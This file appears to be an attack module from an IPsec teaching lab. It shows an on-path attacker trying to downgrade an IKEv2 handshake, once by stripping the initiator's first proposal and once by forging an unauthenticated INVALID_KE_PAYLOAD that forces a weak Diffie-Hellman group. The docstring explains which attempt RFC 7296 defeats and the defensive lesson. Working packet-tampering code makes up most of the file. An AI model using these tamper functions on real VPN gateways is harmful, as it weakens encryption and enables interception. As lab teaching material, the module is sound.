"""downgrade: an on-path attacker pushes IKE_SA_INIT towards weaker algorithms.

Two attempts, both by mallory rewriting the wire between gw1 and gw2 (RFC 7296):

* **Stripping proposals** from the IKE_SA_INIT request, so that the responder picks a weak
  one. IKE_SA_INIT is not protected, but §2.15 has each side sign *its own first message
  as sent*: gw1's AUTH covers the request with every proposal, gw2 checks it against the
  request it received, stripped. They differ, and gw2 answers AUTHENTICATION_FAILED. No SA
  comes up, in any configuration.
* **Forging INVALID_KE_PAYLOAD** (§1.2, §3.10.1): mallory drops gw1's request and answers
  itself, as gw2, "use this DH group instead". The notify is not authenticated and the
  retried request is genuine, so AUTH verifies. If both peers still accept a weak group, the
  IKE SA comes up in it (the weak configuration: modp1024 with SHA-1 beside x25519; a
  group a Logjam-type adversary may break, Adrian et al. 2015). If no weak group is
  configured, gw1 refuses a group it never offered and no weak SA can exist; an on-path
  attacker can always stop the exchange, but not weaken it.

The lesson: AUTH protects what the peers *said*, not what they *would accept*; configure
only proposals you are content to end up with.

It runs for real on the ``on-path-attacker`` topology: gw1 and gw2 are ``impl: ipseclab``
IKEv2 gateways; mallory's relay (:mod:`ipseclab.attacks.ike_relay`) diverts the IKE
datagrams between them inside mallory's namespace and rewrites them in flight with
:func:`strip_first_proposal` and :func:`forge_invalid_ke`. The evidence comes from the
gateways themselves: their logs (authentication failed, refused group), ``ctl
list-ike-sas`` (the proposal of an IKE SA that came up) and ``ctl stats``. The attack
targets only the lab's own hosts inside the topology's namespaces.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from ipseclab.attacks.common import AttackResult, check_config
from ipseclab.attacks.ike_common import Attempt, ike_lab, relay_attempt
from ipseclab.crypto import dh
from ipseclab.ike.constants import ExchangeType, HeaderFlag
from ipseclab.ike.message import Message, parse_message
from ipseclab.ike.payloads import KeyExchange, Notify, SecurityAssociation

NAME = "downgrade"
WEAK = "weak"  # x25519 or modp1024/SHA-1 on both sides
RECOMMENDED = "recommended"  # x25519 only
WEAK_GROUP = "modp1024"


def _is_init_request(msg: Message) -> bool:
    return msg.exchange_type == ExchangeType.IKE_SA_INIT and not msg.is_response


def strip_first_proposal(data: bytes, sender: str) -> list:
    """The tamper function: drop the initiator's first (strongest) IKE proposal."""
    msg = parse_message(data)
    if sender == "gw1" and _is_init_request(msg):
        sa = msg.find(SecurityAssociation)
        if sa is not None and len(sa.proposals) > 1:
            sa.proposals = sa.proposals[1:]
            for number, proposal in enumerate(sa.proposals, 1):
                proposal.number = number
            return [msg.to_bytes()]
    return [data]


def forge_invalid_ke(group: int) -> Any:
    """A tamper function that answers gw1's first request with INVALID_KE_PAYLOAD(group)."""
    state = {"forged": 0}

    def tamper(data: bytes, sender: str) -> list:
        msg = parse_message(data)
        if (sender == "gw1" and _is_init_request(msg) and state["forged"] == 0
                and msg.find(KeyExchange) is not None and msg.find(KeyExchange).group != group):
            state["forged"] += 1
            forged = Message(msg.spi_i, bytes(8), ExchangeType.IKE_SA_INIT, HeaderFlag.R, 0,
                             [Notify.invalid_ke_payload(group)])
            return [("reply", forged.to_bytes())]  # gw2 never sees the request
        return [data]

    return tamper


def _outcome(lines: dict[str, list[str]]) -> bool:
    """gw1 has its answer: an IKE SA, or a failure (its own or its peer's)."""
    return any("established" in ln or "failed" in ln for ln in lines.get("gw1", []))


def _weak_sas(attempt: Attempt) -> list[str]:
    return [f"{node}: {sa['name']} {sa.get('proposal')}" for node, sas in attempt.ike_sas.items()
            for sa in sas if WEAK_GROUP in str(sa.get("proposal", ""))]


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None) -> AttackResult:
    """Both attempts against the configuration; succeeded = an IKE SA in the weak group."""
    check_config(config)
    if lab is None:
        with ike_lab(NAME, config, workdir) as fresh:
            return _attack(fresh, config)
    return _attack(lab, config)


def _attack(lab: Any, config: str) -> AttackResult:
    weak_id = dh.dh_group(WEAK_GROUP).iana_id
    stripped = relay_attempt(lab, "downgrade:strip_first_proposal", _outcome)
    for node in ("gw1", "gw2"):  # a fresh start for the second attempt
        lab.restart_gateway(node)
    forged = relay_attempt(lab, f"downgrade:forge_invalid_ke:{weak_id}", _outcome)
    auth_failed = stripped.lines("authentication failed:")
    strip_up = [f"{n}: {sa.get('proposal')}" for n, sas in stripped.ike_sas.items()
                for sa in sas if sa.get("proposal")]
    downgraded = _weak_sas(forged)
    forged_replies = sum(len(d["replied"]) for d in forged.datagrams)
    details = {
        "strip": {"established": strip_up, "failures": auth_failed,
                  "rewritten": sum(d["sent"] != [d["received"]] for d in stripped.datagrams)},
        "forged_invalid_ke": {"established": sorted({sa.get("proposal") for sas in
                                                     forged.ike_sas.values() for sa in sas
                                                     if sa.get("proposal")}),
                              "weak_sas": downgraded, "forged": forged_replies,
                              "failures": forged.lines("failed:")},
    }
    strip_text = ("stripping gw1's first proposal (mallory rewrote"
                  f" {details['strip']['rewritten']} IKE_SA_INIT request(s) in flight): "
                  + ("; ".join(auth_failed) or "no failure logged?")
                  + " (AUTH signs the request as gw1 sent it, RFC 7296 §2.15)")
    if downgraded:
        forge_text = (f"forged INVALID_KE_PAYLOAD({WEAK_GROUP}) from gw2's address: gw1 retried"
                      f" in {WEAK_GROUP}, gw2 chose the weak proposal and AUTH verified;"
                      f" ctl list-ike-sas: {'; '.join(downgraded)}: the unauthenticated notify"
                      " downgraded the IKE SA")
    else:
        forge_text = (f"forged INVALID_KE_PAYLOAD({WEAK_GROUP}) from gw2's address"
                      f" ({forged_replies} sent): "
                      + ("; ".join(details["forged_invalid_ke"]["failures"]) or "ignored")
                      + f"; no IKE SA in {WEAK_GROUP}"
                      f" (ctl list-ike-sas: gw1 {len(forged.ike_sas['gw1'])},"
                      f" gw2 {len(forged.ike_sas['gw2'])} IKE SAs)")
    counters = {"gw1/gw2 logs and ctl": {
        "auth_failed": len(auth_failed), "strip_ike_sas": len(strip_up),
        "downgraded_sas": len(downgraded),
        "gw2_ike_in": forged.stats["gw2"].get("ike_in", 0)}}
    return AttackResult(NAME, config, bool(downgraded), strip_text + "\n" + forge_text,
                        details=details, counters=counters)
